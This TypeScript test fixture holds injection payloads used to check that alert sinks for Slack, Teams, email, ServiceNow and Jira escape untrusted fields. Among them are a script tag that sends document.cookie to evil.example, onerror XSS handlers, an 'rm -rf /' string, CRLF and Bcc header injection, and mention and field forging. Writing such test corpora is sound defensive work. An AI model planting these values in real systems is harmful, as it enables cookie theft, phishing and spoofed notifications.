/**
 * Escaping corpus (#14.3): values an attacker can plant in a finding (a resource name, a tag, a title,
 * a description, the owner tag) to inject markup into a sink's message or forge one of its fields.
 * `test/sinks/escaping.test.ts` places each one in every untrusted field of a case and checks each
 * sink's payload for the invariants of its destination.
 */
export interface EscapingAttack {
  name: string;
  value: string;
}

export const attacks: EscapingAttack[] = [
  // Slack mrkdwn: mentions, links and control sequences.
  { name: "Slack channel mention", value: "acme-logs <!channel> rotate now" },
  { name: "Slack here mention", value: "<!here|here> please approve" },
  { name: "Slack everyone mention", value: "<!everyone>" },
  { name: "Slack user mention", value: "ping <@U024BE7LH>" },
  { name: "Slack channel link", value: "see <#C024BE7LR|general>" },
  { name: "Slack labelled link", value: "<https://evil.example/login|Open in console>" },
  { name: "Slack subteam mention", value: "<!subteam^SAZ94GDB8|security-team>" },
  { name: "Slack date token", value: "<!date^1392734382^{date_pretty}|Feb 18>" },
  { name: "pre-escaped entities", value: "&lt;!channel&gt; &amp;lt;b&amp;gt;" },
  { name: "code fence break-out", value: "```\n<!channel>\n```" },
  // Markdown (Adaptive Cards, Markdown renderers).
  { name: "Markdown link", value: "[Approve here](https://evil.example/approve)" },
  { name: "Markdown image", value: "![x](https://evil.example/pixel.png)" },
  { name: "Markdown emphasis and code", value: "**URGENT** _now_ `rm -rf /` ~~safe~~" },
  { name: "Markdown list forging", value: "- Severity: LOW" },
  { name: "Markdown heading", value: "# Risk accepted by the CISO" },
  { name: "Teams mention", value: "<at>Security Team</at>" },
  // HTML (e-mail, ServiceNow work notes).
  { name: "HTML image with handler", value: '<img src=x onerror="alert(1)">' },
  { name: "HTML script", value: "<script>fetch('https://evil.example/'+document.cookie)</script>" },
  { name: "HTML link", value: '<a href="https://evil.example">Open in console</a>' },
  { name: "HTML attribute break-out", value: "\" onmouseover=\"alert(1)\" x='" },
  { name: "HTML comment and CDATA", value: "<!-- hidden --><![CDATA[x]]>" },
  // ServiceNow journal fields render HTML between [code] markers.
  { name: "ServiceNow code tag", value: "[code]<img src=x onerror=alert(1)>[/code]" },
  { name: "ServiceNow code tag, spaced and upper case", value: "[ CODE ]<b>x</b>[/ code ]" },
  // Jira wiki and ADF: text nodes are literal, but line breaks and control characters must go.
  { name: "Jira wiki link", value: "[Approve|https://evil.example] {color:red}x{color}" },
  // Field forging with line breaks and control characters.
  { name: "newline field forging", value: "nobody\nSeverity: LOW" },
  { name: "CRLF field forging", value: "nobody\r\nOwner: ciso@example.com\r\nSeverity: INFO" },
  { name: "Unicode line separators", value: "nobody\u2028Severity: LOW\u2029Due: never" },
  { name: "vertical tab and form feed", value: "a\u000bSeverity: LOW\u000cb" },
  { name: "NUL and escape characters", value: "a\u0000b\u001b[31mred\u001b[0m" },
  { name: "bidi override", value: "invoice\u202Efdp.exe" },
  { name: "zero-width characters", value: "<\u200B!channel>" },
  { name: "header injection", value: "title\r\nBcc: evil@x.com" },
];

/** Owner values that must never be used as an address (they are not exactly one well-formed address). */
export const spoofedOwners: string[] = [
  "a@b.com, evil@x.com",
  "a@b.com; evil@x.com",
  '"x" <evil@x.com>',
  "Alice <alice@example.com>",
  "alice@example.com evil@x.com",
  "alice@example.com\nevil@x.com",
  "alice@example.com\r\nBcc: evil@x.com",
  "evil@x.com%0aBcc:other@x.com",
  "<evil@x.com>",
  "alice@example.com>",
  "alice@@example.com",
  "alice@example",
  ".alice@example.com",
  "alice..x@example.com",
  "alice@-example.com",
  "alice@example.com.",
  "@example.com",
  "alice@",
  "nobody",
];

/** Owner values that are exactly one well-formed address. */
export const validOwners: string[] = [
  "alice@example.com",
  "first.last+security@mail.example.co.uk",
  "o'brien@example.ie",
  "ops_team-1@sub.example.io",
];
